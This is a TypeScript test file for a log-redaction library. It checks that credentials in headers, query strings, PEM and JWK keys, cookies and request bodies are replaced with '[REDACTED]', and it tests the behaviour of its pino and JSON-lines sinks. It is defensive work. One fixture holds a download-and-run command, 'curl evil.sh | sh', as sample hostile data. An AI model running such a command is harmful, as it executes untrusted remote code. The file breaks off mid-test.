import { createServer, get, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { PassThrough, Writable } from 'node:stream';
import { generateKeyPairSync } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pino9 from 'pino';
import pino8 from 'pino8';
import pino10 from 'pino10';
import { createKeyward, redactCredentials, type Keyward, type KeywardEvent } from '@keyward/core';
import { jsonLinesSink, pinoSink, sanitize } from './index';

/** The pino majors the peer range (`>=8`) covers: 9 is the package's own devDependency, 8 and 10 are aliases. */
type PinoFactory = (...args: unknown[]) => Parameters<typeof pinoSink>[0]['logger'];
const PINOS: ReadonlyArray<[string, PinoFactory]> = [['pino 9', pino9 as unknown as PinoFactory], ['pino 8', pino8 as unknown as PinoFactory], ['pino 10', pino10 as unknown as PinoFactory]];

const EVENT: KeywardEvent = { schema: 'keyward.event/v1', type: 'auth.failed', time: '2026-03-01T10:00:00.000Z', keyId: 'key_1', status: 401, reason: 'KEY_REVOKED', path: '/docs?api_key=kw_live_zzz&page=2', clientAddress: '10.0.0.1' };
const EXTRA = { headers: { authorization: 'Bearer abc.def.ghi', 'x-api-key': 'kw_live_secret', 'X-Custom-Token': 'tok', accept: 'json' }, url: '/x?token=abc&q=1', body: { password: 'hunter2', nested: { client_secret: 's3cr3t', ok: 1 } } };

function capture(): { stream: Writable; lines: () => Array<Record<string, any>> } {
  const chunks: string[] = [];
  const stream = new Writable({ write(chunk, _enc, cb) { chunks.push(String(chunk)); cb(); } });
  return { stream, lines: () => chunks.join('').split('\n').filter(Boolean).map((l) => JSON.parse(l)) };
}

describe('sanitize', () => {
  it('redacts credential headers, query parameters and secret-named fields, without touching its input', () => {
    const input = structuredClone(EXTRA);
    const out = sanitize(input, { headers: ['x-custom-token'] }) as typeof EXTRA;
    expect(out.headers).toEqual({ authorization: '[REDACTED]', 'x-api-key': '[REDACTED]', 'X-Custom-Token': '[REDACTED]', accept: 'json' });
    expect(out.url).toBe('/x?token=[REDACTED]&q=1');
    expect(out.body).toEqual({ password: '[REDACTED]', nested: { client_secret: '[REDACTED]', ok: 1 } });
    expect(input).toEqual(EXTRA);
  });

  it('writes an Error as its name, message and code, the message redacted', async () => {
    const kw = createKeyward();
    const { key } = await kw.keys.create({ owner: 'a' });
    const error = Object.assign(new TypeError(`upstream refused Authorization: Bearer ${key}`), { code: 'E_UPSTREAM' });
    expect(sanitize({ error })).toEqual({ error: { name: 'TypeError', message: 'upstream refused Authorization: [REDACTED]', code: 'E_UPSTREAM' } });
    await kw.close();
  });

  it('writes at most 200 fields of an object, and says how many it left out', () => {
    const body: Record<string, number> = {};
    for (let i = 0; i < 200_000; i++) body[`f${i}`] = i;
    const out = sanitize({ body }) as { body: Record<string, unknown> };
    expect(Object.keys(out.body)).toHaveLength(201);
    expect([out.body['f0'], out.body['f199'], out.body['f200'], out.body['[TRUNCATED]']]).toEqual([0, 199, undefined, '199800 more fields']);
    expect(JSON.stringify(out).length).toBeLessThan(5000);
  });

  it('redacts anything shaped like a keyward key or an Authorization value', async () => {
    const kw = createKeyward();
    const { key } = await kw.keys.create({ owner: 'a' });
    expect(sanitize({ note: key, auth: `Bearer ${key}`, list: [key] })).toEqual({ note: '[REDACTED]', auth: '[REDACTED]', list: ['[REDACTED]'] });
    await kw.close();
  });

  it('redacts parameters of a parsed query (req.query) as it does in a query string: configured names and credential-like ones', () => {
    const out = sanitize({ query: { access_key: 'ak-0123456789', auth: 'plain-secret-1', 'x-session': 'plain-secret-2', page: '2' }, keyId: 'key_1' }, { query: ['access_key'] });
    expect(out).toEqual({ query: { access_key: '[REDACTED]', auth: '[REDACTED]', 'x-session': '[REDACTED]', page: '2' }, keyId: 'key_1' });
    expect(sanitize({ url: '/x?access_key=ak-0123456789&auth=plain-secret-1&page=2' }, { query: ['access_key'] })).toEqual({ url: '/x?access_key=[REDACTED]&auth=[REDACTED]&page=2' });
  });

  it('redacts OAuth\'s authorization code in a URL and in a parsed query, and keeps other fields named code', () => {
    const out = sanitize({ url: '/cb?code=plain-secret-1&state=s1', query: { code: 'plain-secret-2', state: 's1', client_assertion: 'plain-secret-3' }, body: { code_verifier: 'plain-secret-4' }, code: 'E_UPSTREAM', error: Object.assign(new Error('failed with code=503'), { code: 'ECONNRESET' }) });
    expect(out).toEqual({ url: '/cb?code=[REDACTED]&state=s1', query: { code: '[REDACTED]', state: 's1', client_assertion: '[REDACTED]' }, body: { code_verifier: '[REDACTED]' }, code: 'E_UPSTREAM', error: { name: 'Error', message: 'failed with code=503', code: 'ECONNRESET' } });
  });

  it('redacts credential headers in a request logged whole: its rawHeaders list holds them as name, value pairs', async () => {
    const seen = new Promise<IncomingMessage>((resolve) => {
      const server = createServer((req, res) => {
        resolve(req);
        res.end();
        server.close();
      }).listen(0, '127.0.0.1', () => {
        const { port } = server.address() as AddressInfo;
        get({ port, host: '127.0.0.1', path: '/x', headers: { Cookie: 'sid=s3ssion-value', 'X-Partner-Secret': 'partner-value', Accept: 'json' } }, (r) => r.resume());
      });
    });
    const req = await seen;
    const out = sanitize({ request: req }, { headers: ['x-partner-secret'] }) as { request: { rawHeaders: string[] } };
    const raw = out.request.rawHeaders;
    expect(raw.slice(raw.indexOf('Cookie'), raw.indexOf('Cookie') + 2)).toEqual(['Cookie', '[REDACTED]']);
    expect(raw.slice(raw.indexOf('X-Partner-Secret'), raw.indexOf('X-Partner-Secret') + 2)).toEqual(['X-Partner-Secret', '[REDACTED]']);
    expect(raw.slice(raw.indexOf('Accept'), raw.indexOf('Accept') + 2)).toEqual(['Accept', 'json']);
    expect(JSON.stringify(out)).not.toMatch(/s3ssion-value|partner-value/);
  });

  it('redacts credential headers written out in text: a raw request head, an error message, a JSON string', () => {
    const out = sanitize({
      request: { _header: 'GET /x HTTP/1.1\r\nAuthorization: Bearer plain-secret-1\r\nX-Api-Key: plain-secret-2\r\nX-Partner-Secret:plain-secret-3\r\nAccept: json\r\n\r\n' },
      message: 'upstream refused Authorization: Basic cGxhaW46c2VjcmV0',
      body: '{"cookie":"sid=plain-secret-4","page":2}',
      note: 'at 12:30 the my-authorization: field was fine',
    }, { headers: ['x-partner-secret'] });
    expect(out).toEqual({
      request: { _header: 'GET /x HTTP/1.1\r\nAuthorization: [REDACTED]\r\nX-Api-Key: [REDACTED]\r\nX-Partner-Secret:[REDACTED]\r\nAccept: json\r\n\r\n' },
      message: 'upstream refused Authorization: [REDACTED]',
      body: '{"cookie":"[REDACTED]","page":2}',
      note: 'at 12:30 the my-authorization: field was fine',
    });
  });

  it('redacts a Bearer or Basic credential inside text, not only a value that is one, and leaves prose', () => {
    const basic = Buffer.from('bob:plain-secret-2').toString('base64');
    const out = sanitize({
      message: 'upstream answered 401 to Bearer plain-secret-1 at 12:00',
      note: `retried with basic ${basic} and failed`,
      line: 'forwarded authorization=Bearer plain-secret-3 user=bob',
      list: ['sent Bearer plain-secret-4'],
      prose: 'Supports Basic authentication and bearer tokens; Bearer token refused',
    });
    expect(out).toEqual({
      message: 'upstream answered 401 to Bearer [REDACTED] at 12:00',
      note: 'retried with basic [REDACTED] and failed',
      line: 'forwarded authorization=[REDACTED] [REDACTED] user=bob',
      list: ['sent Bearer [REDACTED]'],
      prose: 'Supports Basic authentication and bearer tokens; Bearer token refused',
    });
  });

  it('keeps prose that opens with a scheme\'s name (Basic Authentication, Token expired), and redacts every Basic credential', () => {
    const prose = ['Basic Authentication is disabled for this route', 'Token expired', 'Token expired: retry', 'Token refresh failed for user 42', 'ApiKey rotation due', 'Bearer Authentication required', 'Basic realm="api"', 'Upgrade from the Basic plan', 'Basic Constraints extension missing'];
    for (const text of prose) expect([text, sanitize({ message: text, path: text })]).toEqual([text, { message: text, path: text }]);
    const b64 = (text: string) => Buffer.from(text).toString('base64');
    // A value that is an Authorization header's, and a Basic credential in text, short ones (`u:p`) and all.
    for (const credential of [b64('alice:s3cret'), b64('u:p'), b64(':'), Buffer.from('bob:pässword').toString('base64url'), 'scrape-token-0123456789', 'Z2V0LXJla3Q']) {
      expect([credential, sanitize({ message: `Basic ${credential}`, note: `retried with Basic ${credential} at 12:00` })]).toEqual([credential, { message: '[REDACTED]', note: 'retried with Basic [REDACTED] at 12:00' }]);
    }
    for (const value of ['Bearer plain-secret-1', 'Token 0a1b2c3d4e', 'ApiKey Xy7-secret', 'Bearer x1']) expect([value, sanitize({ message: value })]).toEqual([value, { message: '[REDACTED]' }]);
  });

  it('redacts a private key in PEM inside text, whole or cut off, and leaves certificates and public keys', () => {
    const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const pem = privateKey.export({ format: 'pem', type: 'pkcs8' }).toString();
    const sec1 = privateKey.export({ format: 'pem', type: 'sec1' }).toString();
    const publicPem = publicKey.export({ format: 'pem', type: 'spki' }).toString();
    const body = pem.split('\n')[1]!;
    const out = sanitize({
      message: `cannot load signing key from config: ${pem.trim()} (bad format)`,
      escaped: `{"signer":${JSON.stringify(sec1)}}`,
      cut: `env dump: KEY=${pem.slice(0, 80)}`,
      publicPem,
    }) as Record<string, string>;
    expect(out).toEqual({ message: 'cannot load signing key from config: [REDACTED] (bad format)', escaped: '{"signer":"[REDACTED]\\n"}', cut: 'env dump: KEY=[REDACTED]', publicPem });
    expect(JSON.stringify(out)).not.toContain(body.slice(0, 20));
  });

  it('redacts a secret written `name: value` in text (YAML, a dumped config, a message), and nothing else', () => {
    const out = sanitize({
      yaml: 'redis:\n  host: cache\n  password: plain-secret-1\nsigning:\n  client_secret: "plain secret 2"\n',
      message: "config rejected (db_password: 'plain-secret-3', user: app, apiToken:plain-secret-4)",
      fine: 'at 12:30 GET https://app.example:8443/x took 4ms; status: 200, keyId: key_1, key_count: 3',
    });
    expect(out).toEqual({
      yaml: 'redis:\n  host: cache\n  password: [REDACTED]\nsigning:\n  client_secret: "[REDACTED]"\n',
      message: "config rejected (db_password: '[REDACTED]', user: app, apiToken:[REDACTED])",
      fine: 'at 12:30 GET https://app.example:8443/x took 4ms; status: 200, keyId: key_1, key_count: 3',
    });
  });

  it('redacts { name, value } entries (a HAR) and [name, value] pairs of a query as the field of that name', () => {
    const har = {
      request: {
        url: 'https://api.example/cb',
        headers: [{ name: 'Authorization', value: 'Bearer plain-secret-1' }, { name: 'X-Partner-Token', value: 'plain-secret-2' }, { name: 'Accept', value: 'json' }],
        queryString: [{ name: 'code', value: 'plain-secret-3' }, { name: 'api_key', value: 'plain-secret-4' }, { name: 'page', value: '2' }],
        postData: { params: [{ name: 'client_secret', value: 'plain-secret-5' }, { name: 'grant_type', value: 'client_credentials' }] },
      },
      query: [['code', 'plain-secret-6'], ['state', 's1']],
    };
    const out = sanitize(har) as typeof har;
    expect(JSON.stringify(out)).not.toMatch(/plain-secret/);
    expect(out.request.headers[2]).toEqual({ name: 'Accept', value: 'json' });
    expect(out.request.queryString[2]).toEqual({ name: 'page', value: '2' });
    expect(out.request.postData.params[1]).toEqual({ name: 'grant_type', value: 'client_credentials' });
    expect(out.query).toEqual([['code', '[REDACTED]'], ['state', 's1']]);
  });

  it('redacts the private members of a JWK, whatever the field holding it is named, and keeps its public ones', () => {
    // A random base64url value can hold a keyward key's shape by chance (`…w_g_LyeUKcxB2xMrx1ga0c0bo6s`: prefix, env and 22+
    // characters), which redaction replaces in any text by design, public JWK members included: drawn again until none does.
    const jwk = (type: 'ec' | 'rsa') => {
      for (;;) {
        const key = (type === 'ec' ? generateKeyPairSync('ec', { namedCurve: 'P-256' }) : generateKeyPairSync('rsa', { modulusLength: 1024 })).privateKey.export({ format: 'jwk' });
        if (Object.values(key).every((v) => typeof v !== 'string' || redactCredentials(v) === v)) return key;
      }
    };
    const ec = jwk('ec');
    const rsa = jwk('rsa');
    const oct = { kty: 'oct', k: 'c2VjcmV0LWhtYWMta2V5LXZhbHVlLTAxMjM0NTY3ODk', alg: 'HS256' };
    const out = sanitize({ loaded: ec, keys: { list: [rsa, oct] }, notJwk: { d: 'day', k: 'kind' } }) as Record<string, any>;
    expect(out.loaded).toEqual({ ...ec, d: '[REDACTED]' });
    expect(out.keys.list[0]).toEqual({ ...rsa, d: '[REDACTED]', p: '[REDACTED]', q: '[REDACTED]', dp: '[REDACTED]', dq: '[REDACTED]', qi: '[REDACTED]' });
    expect(out.keys.list[1]).toEqual({ kty: 'oct', k: '[REDACTED]', alg: 'HS256' });
    expect(out.notJwk).toEqual({ d: 'day', k: 'kind' });
  });

  it('redacts headers whose names look like a credential\'s, listed or not, as query parameters are', () => {
    const headers = { 'X-Client-Key': 'plain-secret-1', 'X-Session-Token': 'plain-secret-2', 'X-Auth': 'plain-secret-3', accept: 'json', 'keep-alive': '5', 'x-request-id': 'r1' };
    const R = '[REDACTED]';
    const redacted = { 'X-Client-Key': R, 'X-Session-Token': R, 'X-Auth': R, accept: 'json', 'keep-alive': '5', 'x-request-id': 'r1' };
    expect(sanitize({ headers })).toEqual({ headers: redacted });
    expect(sanitize({ headers: Object.entries(headers) })).toEqual({ headers: Object.entries(redacted) });
    expect(sanitize({ rawHeaders: Object.entries(headers).flat() })).toEqual({ rawHeaders: Object.entries(redacted).flat() });
    // Elsewhere a field named like `keyId` is no credential.
    expect(sanitize({ keyId: 'key_1', data: [['keyId', 'key_1']] })).toEqual({ keyId: 'key_1', data: [['keyId', 'key_1']] });
  });

  it('redacts short password field names: pwd, pass (auth: { user, pass }), passphrase, passcode', () => {
    const out = sanitize({ pwd: 'plain-secret-1', passphrase: 'plain secret', auth: { user: 'u', pass: 'plain-secret-2' }, smtp_pass: 'plain-secret-3', passcode: '1234', bypass: true, compass: 'north' });
    expect(out).toEqual({ pwd: '[REDACTED]', passphrase: '[REDACTED]', auth: { user: 'u', pass: '[REDACTED]' }, smtp_pass: '[REDACTED]', passcode: '[REDACTED]', bypass: true, compass: 'north' });
  });

  it('redacts secret keys by their field names (AWS secretAccessKey, signingKey, encryption_key…), not ordinary keys', () => {
    const out = sanitize({ aws: { accessKeyId: 'AKIAEXAMPLE', secretAccessKey: 'plain-secret-1' }, signingKey: 'plain-secret-2', encryption_key: 'plain-secret-3', masterKey: 'plain-secret-4', hmacKey: 'plain-secret-5', authKey: 'plain-secret-6', cacheKey: 'ck', publicKey: 'pk', keyId: 'key_1', sortKey: 'sk' });
    const R = '[REDACTED]';
    expect(out).toEqual({ aws: { accessKeyId: 'AKIAEXAMPLE', secretAccessKey: R }, signingKey: R, encryption_key: R, masterKey: R, hmacKey: R, authKey: R, cacheKey: 'ck', publicKey: 'pk', keyId: 'key_1', sortKey: 'sk' });
  });

  it('logs binary data of any kind by its size, never byte by byte', () => {
    const bytes = new TextEncoder().encode('api_key=plain-secret-1');
    expect(sanitize({ buffer: Buffer.from(bytes), bytes, view: new DataView(bytes.buffer), words: new Uint16Array(3), raw: bytes.buffer })).toEqual({
      buffer: '[22 bytes]', bytes: '[22 bytes]', view: '[22 bytes]', words: '[6 bytes]', raw: '[22 bytes]',
    });
  });

  it('redacts secret fields of JSON written out as text (a raw body, a message quoting a payload)', () => {
    const body = JSON.stringify({ user: 'bob', password: 'plain"secret-1', client_secret: 'plain-secret-2', page: '2', keyId: 'key_1' });
    expect(sanitize({ body, msg: 'payload {"refresh_token" : "plain-secret-3"} rejected' })).toEqual({
      body: JSON.stringify({ user: 'bob', password: '[REDACTED]', client_secret: '[REDACTED]', page: '2', keyId: 'key_1' }),
      msg: 'payload {"refresh_token" : "[REDACTED]"} rejected',
    });
    const started = performance.now();
    sanitize({ a: '"a":"'.repeat(50_000), b: `"${'a'.repeat(99)}" : `.repeat(20_000), c: `"password": "${'x\\'.repeat(50_000)}` });
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('redacts parsed cookies (req.cookies, req.signedCookies) and session ids, whatever the cookies are named', () => {
    const out = sanitize({ cookies: { sid: 'plain-secret-1', theme: 'dark' }, signedCookies: { 'connect.sid': 's:plain-secret-2' }, sessionID: 'plain-secret-3', 'connect.sid': 'plain-secret-4', PHPSESSID: 'plain-secret-5', side: 'left', consid: 'x' });
    expect(out).toEqual({ cookies: '[REDACTED]', signedCookies: '[REDACTED]', sessionID: '[REDACTED]', 'connect.sid': '[REDACTED]', PHPSESSID: '[REDACTED]', side: 'left', consid: 'x' });
  });

  it('redacts headers given as [name, value] pairs, as a flat list, as a WHATWG Headers or a Map, and logs them', () => {
    const secrets = { 'X-Api-Key': 'plain-secret-1', Authorization: 'Digest plain-secret-2', 'X-Partner-Secret': 'plain-secret-3', Accept: 'json' };
    const R = '[REDACTED]';
    expect(sanitize({ headers: Object.entries(secrets) }, { headers: ['x-partner-secret'] })).toEqual({ headers: [['X-Api-Key', R], ['Authorization', R], ['X-Partner-Secret', R], ['Accept', 'json']] });
    expect(sanitize({ headers: Object.entries(secrets).flat() }, { headers: ['x-partner-secret'] })).toEqual({ headers: ['X-Api-Key', R, 'Authorization', R, 'X-Partner-Secret', R, 'Accept', 'json'] });
    expect(sanitize({ headers: new Headers(secrets) }, { headers: ['x-partner-secret'] })).toEqual({ headers: { accept: 'json', authorization: R, 'x-api-key': R, 'x-partner-secret': R } });
    expect(sanitize({ headers: new Map(Object.entries(secrets)) }, { headers: ['x-partner-secret'] })).toEqual({ headers: { 'X-Api-Key': R, Authorization: R, 'X-Partner-Secret': R, Accept: 'json' } });
    expect(sanitize({ fields: new Map<string, unknown>([['__proto__', 1], ['password', 'plain-secret-4']]) })).toEqual({ fields: JSON.parse('{"__proto__":1,"password":"[REDACTED]"}') });
    expect(sanitize({ url: new URL('https://api.example/x?api_key=plain-secret-5&page=2'), query: new URLSearchParams('token=plain-secret-6&page=2') })).toEqual({ url: `https://api.example/x?api_key=${R}&page=2`, query: `token=${R}&page=2` });
  });
});

describe.each(PINOS)('pino sink on %s', (_major, pino) => {
  let kw: Keyward;
  afterEach(() => kw?.close());

  it('writes events as structured lines at their level, redacted', async () => {
    kw = createKeyward();
    const out = capture();
    const sink = pinoSink({ keyward: kw, logger: pino({ level: 'debug' }, out.stream) });
    const { key } = await kw.keys.create({ owner: 'acme' });
    await kw.check({ method: 'GET', path: '/docs', query: 'page=1', headers: { 'x-api-key': key.slice(0, -2) + 'zz' } });
    await kw.flushEvents();
    sink.write(EVENT, EXTRA);
    const lines = out.lines();
    expect(lines.map((l) => [l.level, l.msg])).toEqual([[30, 'key.created'], [40, 'auth.failed'], [40, 'auth.failed']]);
    expect(lines[2]!.event).toMatchObject({ keyId: 'key_1', path: '/docs?api_key=[REDACTED]&page=2' });
    expect(lines[2]!.request.headers.authorization).toBe('[REDACTED]');
    const text = JSON.stringify(lines);
    for (const secret of [key, 'kw_live_secret', 'abc.def.ghi', 'hunter2', 's3cr3t', 'kw_live_zzz']) expect(text).not.toContain(secret);
    await sink.close();
  });

  it('filters by type and checks its logger', () => {
    const out = capture();
    const sink = pinoSink({ logger: pino(out.stream), types: ['anomaly.detected'] });
    sink.write(EVENT);
    expect(out.lines()).toEqual([]);
    expect(() => pinoSink({ logger: {} as never })).toThrow(/"logger"/);
  });

  it('refuses at start-up a logger without a method of a level it will use, instead of losing those lines', () => {
    const lines: string[] = [];
    const partial = { info: (_o: object, m?: string) => lines.push(`info ${m}`), warn: (_o: object, m?: string) => lines.push(`warn ${m}`) };
    // store.error is logged at error by default, an event levels sends to debug at debug: each would throw in the listener
    expect(() => pinoSink({ logger: partial as never })).toThrow('keyward: option "logger" must be a pino logger: it has no error() method');
    expect(() => pinoSink({ logger: { ...partial, error: () => {} } as never, levels: { 'key.created': 'debug' } })).toThrow('keyward: option "logger" must be a pino logger: it has no debug() method');
    // the levels a logger needs are those it will use
    pinoSink({ logger: { ...partial, error: () => {} } as never }).write({ ...EVENT, type: 'store.error' } as KeywardEvent);
    expect(lines).toEqual([]);
  });
});

describe('sinks subscribed to an instance', () => {
  it('redact the header and query parameter it reads credentials from, however they are named', async () => {
    const warn = jest.spyOn(process, 'emitWarning').mockImplementation(() => {}); // query credentials warn once, by design
    const kw = createKeyward({ header: 'X-Tenant-Pass', queryParam: 'ak' });
    warn.mockRestore();
    const extra = { headers: { 'X-Tenant-Pass': 'plain-secret-1', accept: 'json' }, query: { ak: 'plain-secret-2' }, url: '/x?ak=plain-secret-3&page=2' };
    const expected = { headers: { 'X-Tenant-Pass': '[REDACTED]', accept: 'json' }, query: { ak: '[REDACTED]' }, url: '/x?ak=[REDACTED]&page=2' };
    const pinoOut = capture();
    const pinoLines = pinoSink({ keyward: kw, logger: pino9(pinoOut.stream), redact: { keys: ['other'] } });
    const jsonOut = capture();
    const jsonLines = jsonLinesSink({ keyward: kw, stream: jsonOut.stream });
    pinoLines.write(EVENT, extra);
    jsonLines.write(EVENT, extra);
    expect(pinoOut.lines()[0]!.request).toEqual(expected);
    expect(jsonOut.lines()[0]!.request).toEqual(expected);
    // Without an instance, `redact` names them.
    const bare = capture();
    jsonLinesSink({ stream: bare.stream, redact: { headers: ['x-tenant-pass'], query: ['ak'] } }).write(EVENT, extra);
    expect(bare.lines()[0]!.request).toEqual(expected);
    await Promise.all([pinoLines.close(), jsonLines.close(), kw.close()]);
  });
});

describe('sanitize and hostile field names', () => {
  it('keeps fields named __proto__ in the output as fields, so a client cannot hide data from the log', () => {
    const body = JSON.parse('{"__proto__":{"cmd":"curl evil.sh | sh","password":"hunter2"},"page":1}') as unknown;
    const headers = JSON.parse('{"__proto__":["a","b"],"x-api-key":"kw_live_secret"}') as unknown;
    const out = sanitize({ body, headers }) as Record<string, Record<string, unknown>>;
    expect(JSON.stringify(out)).toBe('{"body":{"__proto__":{"cmd":"curl evil.sh | sh","password":"[REDACTED]"},"page":1},"headers":{"__proto__":["a","b"],"x-api-key":"[REDACTED]"}}');
    expect(Object.getPrototypeOf(out.body)).toBe(Object.prototype);
  });
});

describe('JSON-lines sink', () => {
  it('writes one sanitised JSON object per line to a stream', () => {
    const out = capture();
    const sink = jsonLinesSink({ stream: out.stream });
    sink.write(EVENT, EXTRA);
    sink.write({ ...EVENT, type: 'key.created', path: undefined } as unknown as KeywardEvent);
    const lines = out.lines();
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatchObject({ schema: 'keyward.event/v1', type: 'auth.failed', path: '/docs?api_key=[REDACTED]&page=2', request: { url: '/x?token=[REDACTED]&q=1' } });
    expect(sink.stats()).toEqual({ written: 2, dropped: 0, buffered: 0 });
  });

  it('keeps a line bounded when one string is huge (a request body), cutting it after redaction', async () => {
    const out = capture();
    const sink = jsonLinesSink({ stream: out.stream });
    sink.write(EVENT, { body: 'é'.repeat(5_000_000) });
    const line = JSON.stringify(out.lines()[0]);
    expect(line.length).toBeLessThan(20_000);
    expect(out.lines()[0]!.request).toEqual({ body: `${'é'.repeat(16_384)}…[TRUNCATED: 4983616 more characters]` });
    // a key across the cut is redacted whole before the string is cut: no part of it is left
    const kw = createKeyward();
    const { key } = await kw.keys.create({ owner: 'acme' });
    await kw.close();
    sink.write(EVENT, { body: `${'x'.repeat(16_380)} ${key} ${'y'.repeat(1000)}` });
    const body = (out.lines()[1]!.request as { body: string }).body;
    expect(body).toBe(`${'x'.repeat(16_380)} [RE…[TRUNCATED: ${' [REDACTED] '.length + 1000 - 4} more characters]`);
    expect(body).not.toContain(key.slice(8, 20));
  });

  it('writes a line holding a BigInt (as its digits) instead of throwing', () => {
    const out = capture();
    const sink = jsonLinesSink({ stream: out.stream });
    sink.write(EVENT, { size: 12345678901234567890n });
    expect(out.lines()[0]!.request).toEqual({ size: '12345678901234567890' });
    expect(sink.stats()).toEqual({ written: 1, dropped: 0, buffered: 0 });
  });

  it('writes a line when a value cannot be read (a getter or a proxy that throws), never throwing at the caller', () => {
    const out = capture();
    const sink = jsonLinesSink({ stream: out.stream });
    const hostile = new Proxy({}, { ownKeys() { throw new Error(`cannot list kw_live_${'A'.repeat(30)}`); } });
    sink.write(EVENT, { ok: 1, body: { get bad(): string { throw new Error('no'); } }, hostile });
    expect(out.lines()[0]!.request).toEqual({ ok: 1, body: '[UNREADABLE]', hostile: '[UNREADABLE]' });
  });

  it('appends to a file from the event stream and closes it', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'kw-jsonl-'));
    const kw = createKeyward();
    const sink = jsonLinesSink({ keyward: kw, path: join(dir, 'audit.jsonl'), types: ['key.created', 'key.revoked'] });
    const { record } = await kw.keys.create({ owner: 'acme' });
    await kw.keys.revoke(record.id, { reason: 'leaked' });
    await kw.flushEvents();
    await sink.close();
    const lines = readFileSync(join(dir, 'audit.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(lines.map((l) => l.type)).toEqual(['key.created', 'key.revoked']);
    expect(lines[1]).toMatchObject({ keyId: record.id, reason: 'leaked' });
    await kw.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('never blocks: a full stream buffers a bounded number of lines and drops the rest', async () => {
    const slow = new PassThrough({ highWaterMark: 1 });
    const sink = jsonLinesSink({ stream: slow, maxBuffer: 2 });
    for (let i = 0; i < 5; i++) sink.write(EVENT);
    expect(sink.stats()).toEqual({ written: 1, dropped: 2, buffered: 2 });
    slow.resume();
    await new Promise((r) => setImmediate(r));
    expect(sink.stats()).toMatchObject({ written: 3, buffered: 0 });
    expect(() => jsonLinesSink({} as never)).toThrow(/"stream" or option "path"/);
  });

  it('close() hands every line it holds to a stream of the caller\'s, which the caller may end next', async () => {
    const got: string[] = [];
    const slow = new Writable({ highWaterMark: 64, write(chunk, _enc, cb) { got.push(String(chunk)); setTimeout(cb, 1); } });
    const sink = jsonLinesSink({ stream: slow });
    for (let i = 0; i < 20; i++) sink.write({ ...EVENT, requestId: `r${i}` });
    expect(sink.stats().buffered).toBeGreaterThan(0);
    await sink.close();
    expect(slow.writableEnded).toBe(false); // not the sink's to end
    await new Promise<void>((resolve) => slow.end(resolve));
    expect(got.map((l) => JSON.parse(l).requestId)).toEqual(Array.from({ length: 20 }, (_, i) => `r${i}`));
    expect(sink.stats()).toEqual({ written: 20, dropped: 0, buffered: 0 });
  });

  it('a stream its owner ends while lines wait for it: they are counted as dropped', async () => {
    const slow = new Writable({ highWaterMark: 64, write(_chunk, _enc, cb) { setTimeout(cb, 1); } });
    const sink = jsonLinesSink({ stream: slow });
    for (let i = 0; i < 20; i++) sink.write(EVENT);
    const { written, buffered } = sink.stats();
    await new Promise<void>((resolve) => slow.end(resolve));
    await new Promise((r) => setImmediate(r));
    expect(sink.stats()).toEqual({ written, dropped: buffered, buffered: 0 });
    await sink.close();
  });

  it('a stream that fails while lines wait for it: they are counted as dropped, not left buffered for ever', async () => {
    const stuck = new Writable({ highWaterMark: 1, write() { /* never calls back */ } });
    const sink = jsonLinesSink({ stream: stuck });
    for (let i = 0; i < 5; i++) sink.write(EVENT);
    expect(sink.stats()).toEqual({ written: 1, dropped: 0, buffered: 4 });
    stuck.destroy(new Error('EIO'));
    await new Promise((r) => setImmediate(r));
    sink.write(EVENT);
    expect(sink.stats()).toEqual({ written: 1, dropped: 5, buffered: 0 });
  });

  it('close() on a stream of the caller\'s that never drains nor fails returns after "closeTimeout", counting what it held as dropped', async () => {
    const stuck = new Writable({ highWaterMark: 1, write() { /* never calls back */ } });
    const sink = jsonLinesSink({ stream: stuck, closeTimeout: 20 });
    for (let i = 0; i < 5; i++) sink.write(EVENT);
    await Promise.all([sink.close(), sink.close()]);
    expect(sink.stats()).toEqual({ written: 1, dropped: 4, buffered: 0 });
    expect(stuck.destroyed).toBe(false); // the caller's to end
    stuck.destroy();
  });

  it('close() waits 10 s at most by default', async () => {
    jest.useFakeTimers({ doNotFake: ['setImmediate', 'nextTick', 'queueMicrotask'] });
    try {
      const stuck = new Writable({ highWaterMark: 1, write() { /* never calls back */ } });
      const sink = jsonLinesSink({ stream: stuck });
      for (let i = 0; i < 3; i++) sink.write(EVENT);
      let closed = false;
      const closing = sink.close().then(() => (closed = true));
      jest.advanceTimersByTime(9_999);
      await new Promise((r) => setImmediate(r));
      expect(closed).toBe(false);
      jest.advanceTimersByTime(1);
      await closing;
      expect(sink.stats()).toEqual({ written: 1, dropped: 2, buffered: 0 });
      stuck.destroy();
    } finally {
      jest.useRealTimers();
    }
  });

  (existsSync('/dev/full') ? it : it.skip)('lines the stream took but failed to write (a full disk) are counted as dropped, not written', async () => {
    const sink = jsonLinesSink({ path: '/dev/full' });
    for (let i = 0; i < 5; i++) sink.write(EVENT); // small: the file stream takes them all, none is held back
    await sink.close();
    expect(sink.stats()).toEqual({ written: 0, dropped: 5, buffered: 0 });
  });

  it('lines given to a file that cannot be opened are counted as dropped, not written', async () => {
    const sink = jsonLinesSink({ path: join(tmpdir(), `kw-jsonl-missing-${process.pid}-${Date.now()}`, 'audit.jsonl') });
    sink.write(EVENT); // before the open fails
    await new Promise((r) => setTimeout(r, 50));
    sink.write(EVENT); // after
    await sink.close();
    expect(sink.stats()).toEqual({ written: 0, dropped: 2, buffered: 0 });
  });

  (existsSync('/dev/full') ? it : it.skip)('close() returns when its file fails with lines waiting (a full disk), instead of waiting for ever; called twice too', async () => {
    const sink = jsonLinesSink({ path: '/dev/full' });
    const big = { ...EVENT, requestId: 'r'.repeat(1000) };
    for (let i = 0; i < 100; i++) sink.write(big);
    expect(sink.stats().buffered).toBeGreaterThan(0);
    await Promise.all([sink.close(), sink.close()]); // a second close() waits with the first, and returns too
    const { written, dropped, buffered } = sink.stats();
    expect(buffered).toBe(0);
    expect(written + dropped).toBe(100);
  });
});

describe('no credential in any line, whatever field it hides in', () => {
  const JWT = `${Buffer.from('{"alg":"HS256"}').toString('base64url')}.${Buffer.from('{"sub":"u1"}').toString('base64url')}.${'s'.repeat(43)}`;
  let kw: Keyward;
  let key: string;
  let body: string;
  beforeAll(async () => {
    kw = createKeyward();
